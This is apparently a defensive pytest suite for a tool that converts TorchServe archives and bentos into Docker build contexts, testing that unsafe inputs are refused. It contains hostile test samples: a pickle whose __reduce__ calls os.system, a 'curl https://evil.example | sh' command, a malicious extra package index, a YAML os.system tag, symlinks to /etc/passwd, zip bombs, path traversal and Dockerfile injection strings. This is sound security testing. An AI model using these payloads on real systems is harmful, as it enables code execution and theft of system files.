"""A TorchServe archive or a bento becomes a build context, or every fault of it is told and nothing is written."""

from __future__ import annotations

import json
import os
import pickle
import random
import stat
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from model_packaging.container import WrittenContext, write_context
from serving.errors import PackagingError
from tests.unit.packaging.foreign import (
    BASE,
    BENTO,
    MANIFEST,
    PINS,
    bento_files,
    changed,
    torchserve_files,
    write_folder,
    zipped,
)


class Evil:
    def __reduce__(self) -> tuple[object, ...]:
        return os.system, ("true",)


def refused(source: Path, out: Path, *, base: str = BASE, api: str | None = None) -> list[str]:
    """Give the lines of a refusal; nothing may be left of it."""
    with pytest.raises(PackagingError) as error:
        write_context(source, base=base, out_dir=out, api=api)
    assert not out.exists() or list(out.iterdir()) == []
    return str(error.value).splitlines()


def mar(tmp_path: Path, files: dict[str, bytes]) -> Path:
    path = tmp_path / "adder.mar"
    path.write_bytes(zipped(files))
    return path


def content(made: WrittenContext) -> dict[str, bytes]:
    return {
        path.relative_to(made.path).as_posix(): path.read_bytes() for path in made.path.rglob("*") if path.is_file()
    }


def test_an_archive_and_its_unpacked_folder_give_the_same_context(tmp_path: Path) -> None:
    packed = write_context(mar(tmp_path, torchserve_files()), base=BASE, out_dir=tmp_path / "one")
    folder = write_context(write_folder(torchserve_files(), tmp_path / "in"), base=BASE, out_dir=tmp_path / "two")
    assert packed.written == folder.written
    assert content(packed) == content(folder)
    assert packed.path == tmp_path / "one/adder-1.0.context"
    assert list((tmp_path / "one").iterdir()) == [packed.path]


def test_a_torchserve_context_has_the_models_files_under_its_name_and_loads_that_one(tmp_path: Path) -> None:
    files = content(write_context(mar(tmp_path, torchserve_files()), base=BASE, out_dir=tmp_path / "out"))
    for name, data in torchserve_files().items():
        assert files.pop(f"app/models/adder/{name}") == data
    assert files.keys() == {"Dockerfile", "app/serve.py", "app/config.properties"}
    config = files["app/config.properties"].decode().splitlines()
    assert {"load_models=adder", "disable_token_authorization=true"} <= set(config)


def test_a_bento_context_has_its_source_its_pins_and_the_route_of_its_only_api(tmp_path: Path) -> None:
    source = write_folder(bento_files(), tmp_path / "in")
    files = content(write_context(source, base=BASE, out_dir=tmp_path / "out"))
    assert files.keys() == {
        "Dockerfile",
        "requirements.txt",
        "app/bentoml_service.py",
        "app/service.json",
        "app/src/service.py",
        "app/src/model.json",
    }
    assert files["requirements.txt"] == b"bentoml==1.4.40\nnumpy==2.4.6\n"
    assert json.loads(files["app/service.json"]) == {"service": "service:Adder", "invocations": "/v1/add"}


@pytest.mark.parametrize("kind", ["torchserve", "bentoml"])
def test_the_image_starts_by_exec_form_on_the_base_named_by_digest_and_is_no_root(kind: str, tmp_path: Path) -> None:
    files = torchserve_files() if kind == "torchserve" else bento_files()
    made = write_context(write_folder(files, tmp_path / "in"), base=BASE, out_dir=tmp_path / "out")
    text = (made.path / "Dockerfile").read_text()
    rows = [line.split(" ", 1) for line in text.splitlines() if not line.startswith("#")]
    assert [value for key, value in rows if key == "FROM"] == [BASE]
    (entry,) = [json.loads(value) for key, value in rows if key == "ENTRYPOINT"]
    assert (made.path / "app" / Path(entry[1]).relative_to("/opt/app")).is_file()
    assert [json.loads(value) for key, value in rows if key == "CMD"] == [["serve"]]
    (user,) = [value.removeprefix("RUN_AS=") for key, value in rows if key == "ARG"]
    assert int(user.split(":")[0]) > 0
    assert rows.index(["USER", "${RUN_AS}"]) > rows.index(["COPY", "--chmod=755 app ./"])
    linter = Path(sys.executable).parent / "hadolint"
    done = subprocess.run([str(linter), str(made.path / "Dockerfile")], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (0, "")


names = st.lists(st.text("abxyz019_", min_size=1, max_size=8), min_size=1, max_size=3).map("/".join)
trees = st.dictionaries(names.map(lambda name: f"extra/{name}.json"), st.text("0123456789 ", max_size=50), max_size=6)


@settings(max_examples=25)
@given(extra=trees, order=st.randoms(use_true_random=False), mask=st.sampled_from([0o022, 0o077, 0o002]))
def test_order_times_and_umask_leave_no_trace(
    extra: dict[str, str], order: random.Random, mask: int, tmp_path_factory: pytest.TempPathFactory
) -> None:
    tmp_path = tmp_path_factory.mktemp("same")
    files = torchserve_files() | {name: text.encode() for name, text in extra.items()}
    first = write_context(mar(tmp_path, files), base=BASE, out_dir=tmp_path / "one")
    shuffled = list(files.items())
    order.shuffle(shuffled)
    old = os.umask(mask)
    try:
        folder = write_folder(dict(shuffled), tmp_path / "in")
        for path in folder.rglob("*"):
            os.utime(path, (1, 1))
        second = write_context(folder, base=BASE, out_dir=tmp_path / "two")
    finally:
        os.umask(old)
    assert first.written == second.written


def test_writing_it_again_replaces_it_and_leaves_nothing_of_the_old(tmp_path: Path) -> None:
    out = tmp_path / "out"
    write_context(mar(tmp_path, torchserve_files() | {"old.json": b"{}"}), base=BASE, out_dir=out)
    made = write_context(mar(tmp_path, torchserve_files()), base=BASE, out_dir=out)
    assert "app/models/adder/old.json" not in content(made)
    assert list(out.iterdir()) == [made.path]


@pytest.mark.parametrize(
    "base",
    ["python:3.11-slim", "python", "", "python@sha256:" + "0" * 63, "a b@sha256:" + "0" * 64, f"{BASE}\nRUN true"],
)
def test_a_base_without_a_digest_is_refused(base: str, tmp_path: Path) -> None:
    source = write_folder(torchserve_files(), tmp_path / "in")
    (line, *_) = refused(source, tmp_path / "out", base=base)
    assert line.startswith("--base: got ")


@pytest.mark.parametrize("base", ["python@sha256:" + "0" * 64, "localhost:5000/team/ts:0.12.0-cpu@sha256:" + "a" * 64])
def test_a_base_by_digest_may_have_a_registry_and_a_tag(base: str, tmp_path: Path) -> None:
    source = write_folder(torchserve_files(), tmp_path / "in")
    made = write_context(source, base=base, out_dir=tmp_path / "out")
    assert f"\nFROM {base}\n" in (made.path / "Dockerfile").read_text()


@pytest.mark.parametrize(
    ("key", "value", "words"),
    [
        ("runtime", "LSP", "runtime: got 'LSP'"),
        ("runtime", None, "runtime: got 'None'"),
        ("model", "adder", "model.modelName"),
        ("model.modelName", None, "model.modelName: got 'None'"),
        ("model.modelName", "../up", "model.modelName: got '../up'"),
        ("model.modelName", "a b\nRUN true", "model.modelName"),
        ("model.modelVersion", 1, "model.modelVersion: got '1'"),
        ("model.modelVersion", "1/0", "model.modelVersion"),
        ("model.handler", None, "model.handler: got 'None'"),
        ("model.handler", ["handler.py"], "model.handler: got \"['handler.py']\""),
        ("model.handler", "gone.py", "model.handler: got 'gone.py'"),
        ("model.handler", "vllm_handler", "model.handler: got 'vllm_handler'"),
        ("model.handler", "handler.py:predict", "handler.py: got no function 'predict'"),
        ("model", {"handler": "image_classifier"}, "model.serializedFile: got none"),
        ("model.serializedFile", "gone.pt", "model.serializedFile: got 'gone.pt'"),
        ("model.serializedFile", "../model.json", "model.serializedFile"),
        ("model.modelFile", 7, "model.modelFile: got '7'"),
        ("model.requirementsFile", "requirements.txt", "model.requirementsFile"),
        ("model.configFile", "MAR-INF/MANIFEST.json", "model.configFile"),
    ],
)
def test_a_field_that_torchserve_would_not_take_is_named(key: str, value: object, words: str, tmp_path: Path) -> None:
    source = mar(tmp_path, torchserve_files(changed(MANIFEST, key, value)))
    assert any(words in line for line in refused(source, tmp_path / "out"))


def test_all_faults_of_an_archive_come_at_once(tmp_path: Path) -> None:
    manifest = changed(changed(MANIFEST, "runtime", "python2"), "model.modelVersion", None)
    files = torchserve_files(manifest) | {"weights.pkl": pickle.dumps(Evil()), "more.py": b"def :\n"}
    lines = refused(mar(tmp_path, files), tmp_path / "out")
    assert len(lines) == 4
    assert any(f"STACK_GLOBAL {os.system.__module__}.system at byte" in line for line in lines)


@pytest.mark.parametrize("handler", ["handler", "handler.py", "handler:run", "handler.py:run"])
def test_a_handler_is_found_as_torchserve_finds_it(handler: str, tmp_path: Path) -> None:
    files = torchserve_files(changed(MANIFEST, "model.handler", handler)) | {"handler.py": b"def run(data, c): ...\n"}
    assert write_context(mar(tmp_path, files), base=BASE, out_dir=tmp_path / "out").app.name == "adder"


def test_requirements_of_an_archive_are_installed_when_the_image_is_built_and_only_by_release(tmp_path: Path) -> None:
    manifest = changed(MANIFEST, "model.requirementsFile", "requirements.txt")
    files = torchserve_files(manifest) | {"requirements.txt": b"numpy==2.4.6\n"}
    made = write_context(mar(tmp_path, files), base=BASE, out_dir=tmp_path / "out")
    assert (made.path / "requirements.txt").read_bytes() == b"numpy==2.4.6\n"
    assert "RUN pip install" in (made.path / "Dockerfile").read_text()
    files["requirements.txt"] = b"numpy\n--extra-index-url https://evil.example\n"
    assert len(refused(mar(tmp_path, files), tmp_path / "none")) == 2


@pytest.mark.parametrize("content", [b"", b"{", b"[]", b'"x"', b"\xff", b"[" * 100_000])
def test_bytes_that_are_no_manifest_are_one_line(content: bytes, tmp_path: Path) -> None:
    (line,) = refused(mar(tmp_path, torchserve_files() | {"MAR-INF/MANIFEST.json": content}), tmp_path / "out")
    assert line.startswith("MAR-INF/MANIFEST.json: got no ")


@pytest.mark.parametrize(
    ("key", "value", "words"),
    [
        ("name", "../up", "bento.yaml: name: got '../up'"),
        ("version", None, "bento.yaml: version: got 'None'"),
        ("service", "service.py", "bento.yaml: service: got 'service.py'"),
        ("service", "os:system", "bento.yaml: service: got 'os:system'"),
        ("services", None, "services: got 0; allowed 1"),
        ("services", [{}, {}], "services: got 2; allowed 1"),
        ("models", [{"tag": "iris:1"}], "bento.yaml: models:"),
        ("envs", [{"name": "A", "value": "1"}], "bento.yaml: envs:"),
        ("args", {"a": 1}, "bento.yaml: args:"),
        ("image.commands", ["curl https://evil.example | sh"], "image.commands: got 'curl"),
        ("image.post_commands", ["true"], "image.post_commands: got 'true'"),
        ("schema", None, "schema.routes: got none; allowed one API"),
        ("schema.routes", [{"name": "a", "route": "/a"}, {"name": "b", "route": "/b"}], "schema.routes: got a, b"),
        ("schema.routes", [{"name": "add", "route": '/a"\n'}], "allowed a plain path"),
    ],
)
def test_what_the_container_would_lack_of_a_bento_is_named(key: str, value: object, words: str, tmp_path: Path) -> None:
    source = write_folder(bento_files(changed(BENTO, key, value)), tmp_path / "in")
    assert any(words in line for line in refused(source, tmp_path / "out"))


def test_one_of_several_apis_is_chosen_by_name(tmp_path: Path) -> None:
    routes = [{"name": "a", "route": "/a"}, {"name": "b", "route": "/b/c"}]
    source = write_folder(bento_files(changed(BENTO, "schema.routes", routes)), tmp_path / "in")
    made = write_context(source, base=BASE, out_dir=tmp_path / "out", api="b")
    assert made.app.invocations == "/b/c"
    (line,) = refused(source, tmp_path / "none", api="c")
    assert line == "--api: got 'c'; allowed a, b; name one of the service"


@pytest.mark.parametrize("pins", ["", "numpy==2.4.6\n", "bentoml\n", "bentoml==1.4.40\n-e .\n", PINS + "numpy>=2\n"])
def test_a_bento_without_a_whole_lock_is_refused(pins: str, tmp_path: Path) -> None:
    source = write_folder(bento_files(pins=pins), tmp_path / "in")
    assert all("requirements.txt: got " in line for line in refused(source, tmp_path / "out"))


@pytest.mark.parametrize("content", [b"", b"a: [", b"- x", b"!!python/object/apply:os.system ['true']", b"[" * 100_000])
def test_bytes_that_are_no_bento_yaml_are_one_line_and_run_nothing(content: bytes, tmp_path: Path) -> None:
    source = write_folder(bento_files() | {"bento.yaml": content}, tmp_path / "in")
    (line,) = refused(source, tmp_path / "out")
    assert line.startswith("bento.yaml: got no ")


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=5), inner, max_size=2),
    max_leaves=4,
)
ANY_KEY = [("torchserve", key) for key in ("runtime", "model", *(f"model.{name}" for name in MANIFEST["model"]))] + [
    ("bentoml", key) for key in (*BENTO, "image.commands", "schema.routes")
]


@settings(max_examples=150)
@given(place=st.sampled_from(ANY_KEY), value=json_values)
def test_any_value_in_any_field_is_taken_or_refused_in_lines(
    place: tuple[str, str], value: object, tmp_path_factory: pytest.TempPathFactory
) -> None:
    kind, key = place
    tmp_path = tmp_path_factory.mktemp("any")
    base: dict[str, Any] = MANIFEST if kind == "torchserve" else BENTO
    *parents, last = key.split(".")
    document = changed(base, key, "")
    inner = document
    for parent in parents:
        inner = inner[parent]
    inner[last] = value
    files = torchserve_files(document) if kind == "torchserve" else bento_files(document)
    source, out, lines = write_folder(files, tmp_path / "in"), tmp_path / "out", list[str]()
    try:
        write_context(source, base=BASE, out_dir=out)
    except PackagingError as error:
        lines = str(error).splitlines()
    written = list(out.iterdir()) if out.exists() else []
    assert bool(lines) != bool(written), lines


@pytest.mark.parametrize("kind", ["torchserve", "bentoml"])
def test_a_pickle_is_refused_with_the_opcode_that_imports(kind: str, tmp_path: Path) -> None:
    files, name = (torchserve_files(), "model.pt") if kind == "torchserve" else (bento_files(), "src/iris.pkl")
    source = write_folder(files | {name: pickle.dumps(Evil())}, tmp_path / "in")
    (line,) = refused(source, tmp_path / "out")
    assert line.startswith(f"{name}: got a pickle: STACK_GLOBAL {os.system.__module__}.system at byte ")


@pytest.mark.parametrize("kind", ["torchserve", "bentoml"])
def test_a_link_in_a_folder_is_refused_and_not_followed(kind: str, tmp_path: Path) -> None:
    files, name = (torchserve_files(), "link.json") if kind == "torchserve" else (bento_files(), "src/link.json")
    source = write_folder(files, tmp_path / "in")
    (source / name).symlink_to("/etc/passwd")
    (line,) = refused(source, tmp_path / "out")
    assert line.startswith(f"{name}: got a link or special file")


def test_a_source_that_is_neither_is_told_what_may_be(tmp_path: Path) -> None:
    for source in (tmp_path / "none", tmp_path / "none.mar", write_folder({"a.txt": b""}, tmp_path / "in")):
        (line,) = refused(source, tmp_path / "out")
        assert "got neither; allowed a TorchServe archive" in line


def _link(archive: zipfile.ZipFile) -> None:
    info = zipfile.ZipInfo("link")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive.writestr(info, "/etc/passwd")


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("../up.json", "a parent path"),
        ("/abs.json", "an absolute path"),
        ("a//b.json", "an empty part"),
        ("a\\b.json", "a backslash"),
        ("MODEL.json", "differs from 'model.json' only in case"),
        ("model.json/below", "twice, or below a file"),
        ("x" * 201, "too long"),
    ],
)
def test_a_members_name_that_leads_elsewhere_is_refused(name: str, words: str, tmp_path: Path) -> None:
    source = mar(tmp_path, torchserve_files() | {name: b"x"})
    (line,) = refused(source, tmp_path / "out")
    assert line.startswith("adder.mar: got member ")
    assert words in line
    assert sorted(path.name for path in tmp_path.iterdir() if path.name != "out") == ["adder.mar"]


def test_a_link_in_an_archive_is_refused(tmp_path: Path) -> None:
    source = mar(tmp_path, torchserve_files())
    with zipfile.ZipFile(source, "a") as archive:
        _link(archive)
    (line,) = refused(source, tmp_path / "out")
    assert "got member 'link': a symbolic link" in line


def test_a_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    (line,) = refused(mar(tmp_path, torchserve_files() | {"zeros.bin": bytes(70 << 20)}), tmp_path / "out")
    assert "is a bomb" in line


@pytest.mark.parametrize("cut", ["no zip", "truncated", "flipped"])
def test_a_damaged_archive_is_refused(cut: str, tmp_path: Path) -> None:
    source = mar(tmp_path, torchserve_files())
    data = bytearray(source.read_bytes())
    if cut == "flipped":
        data[data.index(b"handler.py") + len("handler.py") + 4] ^= 0xFF
    source.write_bytes({"no zip": b"x" * 100, "truncated": bytes(data[: len(data) // 2]), "flipped": bytes(data)}[cut])
    (line,) = refused(source, tmp_path / "out")
    assert "got bytes that are no whole zip archive" in line
